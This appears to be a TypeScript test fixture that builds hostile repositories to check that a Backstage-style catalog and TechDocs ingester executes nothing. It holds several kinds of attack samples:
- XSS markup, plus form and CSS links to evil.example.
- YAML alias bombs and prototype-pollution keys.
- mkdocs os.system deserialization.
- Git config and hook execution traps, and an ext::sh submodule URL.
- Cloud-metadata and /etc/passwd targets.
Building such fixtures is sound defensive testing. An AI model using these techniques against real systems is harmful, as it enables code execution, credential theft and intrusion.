/** Repositories with everything that a repository should not hold, made anew for each run: some of it no clone could keep. */
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  closeSync,
  ftruncateSync,
  mkdirSync,
  openSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';

/** Commands in these repositories write here; nothing ever may. */
export interface Traps {
  folder: string;
  /** Written by whatever is executed. */
  canary: string;
  /** A program that writes the canary. */
  program: string;
}

/** Writes all repositories: plain folders under `folders`, bare git repositories under `git`. */
export function writeHostileRepositories(root: string): { folders: string; git: string; traps: Traps } {
  const folders = join(root, 'folders');
  const git = join(root, 'git');
  const traps = {
    folder: join(root, 'outside'),
    canary: join(root, 'canary'),
    program: join(root, 'outside', 'program.sh'),
  };
  write(traps.program, `#!/bin/sh\necho "$0 $*" >> '${traps.canary}'\n`);
  chmodSync(traps.program, 0o755);
  write(join(traps.folder, 'catalog-info.yaml'), component('from-outside'));
  write(join(traps.folder, 'secret.md'), '# outside-secret-text\n');

  for (const [name, files] of Object.entries(plainFolders(traps))) {
    for (const [path, text] of Object.entries(files)) write(join(folders, name, path), text);
  }
  writeHuge(join(folders, 'huge', 'catalog-info.yaml'));
  writeLinks(join(folders, 'links'), traps.folder);
  writeTrappedClone(join(folders, 'trapped-clone'), traps);
  execFileSync('git', ['init', '--quiet', join(folders, 'empty-clone')]);

  execFileSync('git', ['init', '--quiet', '--bare', '--initial-branch=main', join(git, 'empty.git')]);
  importFiles(join(git, 'names.git'), namesCommit());
  importFiles(join(git, 'pointers.git'), pointersCommit());
  importFiles(join(git, 'many-files.git'), manyFilesCommit(50_000, 0));
  importFiles(join(git, 'many-components.git'), manyFilesCommit(300_000, 200));
  return { folders, git, traps };
}

function component(name: string, more = ''): string {
  return `apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: ${name}\n${more}spec:\n  type: service\n  lifecycle: production\n  owner: team\n`;
}

const docsHere = '  annotations:\n    backstage.io/techdocs-ref: dir:.\n';

function plainFolders({ canary, program }: Traps): Record<string, Record<string, string>> {
  const level = (n: number) =>
    `a${n}: &a${n} [${Array.from({ length: 9 }, () => `*a${n - 1}`).join(', ')}]\n`;
  return {
    'broken-yaml': {
      'catalog-info.yaml': `${component('broken-yaml')}---\nkind: Component\nmetadata: {name: [unclosed\nspec: x\n`,
    },
    'duplicate-keys': {
      'catalog-info.yaml': component('duplicate-keys').replace('  lifecycle', '  type: website\n  lifecycle'),
    },
    'alias-bomb': {
      'catalog-info.yaml': `${component('alias-bomb')}bomb:\n  a0: &a0 [x, x, x]\n${[1, 2, 3, 4, 5, 6, 7, 8, 9].map((n) => `  ${level(n)}`).join('')}`,
    },
    'proto-keys': {
      'catalog-info.yaml': component(
        'proto-keys',
        '  annotations:\n    __proto__: polluted\n    constructor: polluted\n',
      ).replace('spec:\n', 'spec:\n  __proto__: { polluted: yes }\n'),
    },
    'evil-markdown': {
      'catalog-info.yaml': component(
        'evil-markdown',
        `${docsHere}  links:\n    - url: "javascript:alert('hostile-link')"\n      title: Click\n`,
      ),
      'docs/index.md': `# Evil\n\n<script>alert('hostile-script')</script>\n\n<img src=x onerror="alert('hostile-handler')">\n\n[link](javascript:alert('hostile-url'))\n\n<a href="data:text/html,<script>alert(1)</script>">data</a>\n\n<iframe srcdoc="<script>alert('hostile-frame')</script>"></iframe>\n\n<svg><style>@import url(//evil.example/hostile.css)</style></svg>\n\n<form action="https://evil.example/hostile-form"><input name="q"></form>\n`,
    },
    'js-front-matter': {
      'catalog-info.yaml': component('js-front-matter', docsHere),
      'docs/index.md': `---js\n{ title: require('node:fs').writeFileSync(${JSON.stringify(canary)}, 'front matter') }\n---\n# Front matter that is code\n`,
      'docs/coffee.md': `---coffee\ntitle: require('fs').writeFileSync(${JSON.stringify(canary)}, 'coffee')\n---\n# Coffee\n`,
    },
    'mkdocs-code': {
      'catalog-info.yaml': component('mkdocs-code', docsHere),
      'mkdocs.yml': `site_name: Code\nhooks:\n  - hook.py\nplugins:\n  - techdocs-core\n  - macros\nmarkdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:os.system\n  - x: !!python/object/apply:os.system ["${program} python"]\n`,
      'hook.py': `open(${JSON.stringify(canary)}, 'w').write('hook')\n`,
      'docs/index.md': '# Code in mkdocs.yml\n',
    },
    'missing-docs': {
      'catalog-info.yaml': component('missing-docs', docsHere),
      'mkdocs.yml': 'site_name: Gone\nnav:\n  - Home: index.md\n  - Gone: gone.md\n',
      'docs/index.md': '# Here\n\nSee [the other page](not-there.md).\n',
    },
    'no-docs-at-all': {
      'catalog-info.yaml': component(
        'no-docs-at-all',
        '  annotations:\n    backstage.io/techdocs-ref: dir:./nowhere\n',
      ),
    },
    'claims-first': { 'catalog-info.yaml': component('claimed') },
    'claims-second': { 'catalog-info.yaml': component('claimed') },
    'outside-docs-dir': {
      'catalog-info.yaml': component('outside-docs-dir', docsHere),
      'mkdocs.yml': 'site_name: Outside\ndocs_dir: ../../outside\n',
    },
    'outside-location': {
      'catalog-info.yaml': `apiVersion: backstage.io/v1alpha1\nkind: Location\nmetadata:\n  name: outside-location\nspec:\n  targets:\n    - ../../outside/catalog-info.yaml\n    - http://169.254.169.254/latest/meta-data/\n    - file:///etc/passwd\n`,
    },
    'trapped-project': {
      'catalog-info.yaml': component('trapped-project'),
      'package.json': `{ "name": "trapped", "scripts": { "prepare": "${program} prepare", "preinstall": "${program} preinstall" } }\n`,
      'astro.config.mjs': `import fs from 'node:fs';\nfs.writeFileSync(${JSON.stringify(canary)}, 'astro config');\n`,
      'vite.config.js': `require('fs').writeFileSync(${JSON.stringify(canary)}, 'vite config');\n`,
      Makefile: `all:\n\t${program} make\n`,
      'docs/page.mdx': `import fs from 'node:fs'\n\n{fs.writeFileSync(${JSON.stringify(canary)}, 'mdx')}\n`,
    },
  };
}

/** 100 MB, without taking them on the disk. */
function writeHuge(path: string): void {
  write(path, component('huge'));
  const file = openSync(path, 'r+');
  ftruncateSync(file, 100 * 2 ** 20);
  closeSync(file);
}

function writeLinks(folder: string, outside: string): void {
  write(join(folder, 'README.md'), '# Links out of the tree\n');
  symlinkSync(join(outside, 'catalog-info.yaml'), join(folder, 'catalog-info.yaml'));
  mkdirSync(join(folder, 'docs'));
  symlinkSync(join(outside, 'secret.md'), join(folder, 'docs', 'secret.md'));
  symlinkSync(outside, join(folder, 'all'));
  symlinkSync('nowhere', join(folder, 'dangling.md'));
}

/** A clone whose own git configuration runs programs, if git is let. */
function writeTrappedClone(folder: string, { program }: Traps): void {
  write(join(folder, 'catalog-info.yaml'), component('trapped-clone', docsHere));
  write(join(folder, 'docs/index.md'), '# Trapped\n');
  write(join(folder, '.gitattributes'), '* filter=trap diff=trap\n');
  const git = (...args: string[]) =>
    execFileSync('git', ['-C', folder, ...args], { stdio: 'pipe', env: identity() });
  git('init', '--quiet', '--initial-branch=main');
  git('add', '.');
  git('commit', '--quiet', '-m', 'First');
  const head = git('cat-file', 'commit', 'HEAD').toString();
  const signature = 'gpgsig -----BEGIN PGP SIGNATURE-----\n \n iQ==\n -----END PGP SIGNATURE-----\n';
  const signed = execFileSync('git', ['-C', folder, 'hash-object', '-t', 'commit', '-w', '--stdin'], {
    input: head.replace(/\n\n/, `\n${signature}\n`),
  });
  git('update-ref', 'refs/heads/main', signed.toString().trim());
  const settings = {
    'core.fsmonitor': program,
    'core.hooksPath': dirname(program),
    'core.pager': program,
    'core.sshCommand': program,
    'core.gitProxy': program,
    'core.editor': program,
    'diff.external': program,
    'diff.trap.textconv': program,
    'filter.trap.clean': program,
    'filter.trap.smudge': program,
    'filter.trap.process': program,
    'gpg.program': program,
    'log.showSignature': 'true',
    'credential.helper': `!${program}`,
    'core.alternateRefsCommand': program,
  };
  for (const [name, value] of Object.entries(settings)) git('config', name, value);
  for (const hook of ['post-checkout', 'post-index-change', 'pre-auto-gc', 'reference-transaction']) {
    write(join(folder, '.git/hooks', hook), `#!/bin/sh\n${program} ${hook}\n`);
    chmodSync(join(folder, '.git/hooks', hook), 0o755);
  }
}

/** File names with line ends, quotes, bytes that are no UTF-8, and ones that only look alike. */
function namesCommit(): string {
  return commit([
    file('catalog-info.yaml', component('names', docsHere)),
    file('docs/index.md', '# Names\n'),
    file('"docs/new\\nline.md"', '# New line\n'),
    file('"docs/qu\\"ote\'s.md"', '# Quote\n'),
    file('"docs/bytes-\\377\\376.md"', '# Bytes\n'),
    file('docs/<script>alert(1)</script>.md', '# Markup\n'),
    file('docs/-dash.md', '# Dash\n'),
    file('docs/per%2e%2ecent.md', '# Per cent\n'),
  ]);
}

/** A submodule, and files that Git LFS keeps elsewhere. */
function pointersCommit(): string {
  const pointer =
    'version https://git-lfs.github.com/spec/v1\noid sha256:4665a5ea423c2713d436b5ee50593a9640e0018c1550b5a0002f74190d6caea8\nsize 12345\n';
  return commit([
    file('catalog-info.yaml', component('pointers', docsHere)),
    file('.gitmodules', '[submodule "docs/sub"]\n\tpath = docs/sub\n\turl = ext::sh -c whoami\n'),
    'M 160000 4665a5ea423c2713d436b5ee50593a9640e0018c docs/sub\n',
    file('docs/index.md', '# Pointers\n\n![picture](picture.png)\n'),
    file('docs/picture.png', pointer),
    file('docs/large.md', pointer),
  ]);
}

/** Many files that concern nobody, and components among them. */
function manyFilesCommit(files: number, components: number): string {
  const parts = ['blob\nmark :1\ndata 2\nx\n\n'];
  const entries: string[] = [];
  for (let n = 0; n < files; n++) entries.push(`M 100644 :1 src/${Math.floor(n / 1000)}/file-${n}.txt\n`);
  for (let n = 0; n < components; n++)
    entries.push(file(`services/${n}/catalog-info.yaml`, component(`one-of-many-${n}`)));
  if (components === 0) entries.push(file('README.md', '# Many files\n'));
  return `${parts.join('')}${commit(entries)}`;
}

function file(path: string, text: string): string {
  return `M 100644 inline ${path}\ndata ${Buffer.byteLength(text)}\n${text}\n`;
}

function commit(entries: string[]): string {
  return `commit refs/heads/main\ncommitter Mallory <mallory@example.com> 1767225600 +0000\ndata 5\nFirst\n${entries.join('')}\n`;
}

function importFiles(folder: string, stream: string): void {
  execFileSync('git', ['init', '--quiet', '--bare', '--initial-branch=main', folder]);
  execFileSync('git', ['-C', folder, 'config', 'uploadpack.allowFilter', 'true']);
  execFileSync('git', ['-C', folder, 'config', 'uploadpack.allowAnySHA1InWant', 'true']);
  execFileSync('git', ['-C', folder, 'fast-import', '--quiet'], { input: stream });
}

function identity(): NodeJS.ProcessEnv {
  const person = { NAME: 'Mallory', EMAIL: 'mallory@example.com', DATE: '2026-01-01T00:00:00Z' };
  const roles = ['GIT_AUTHOR', 'GIT_COMMITTER'];
  const entries = roles.flatMap((role) =>
    Object.entries(person).map(([key, value]) => [`${role}_${key}`, value]),
  );
  return { PATH: process.env.PATH, GIT_CONFIG_GLOBAL: '/dev/null', ...Object.fromEntries(entries) };
}

function write(path: string, text: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}
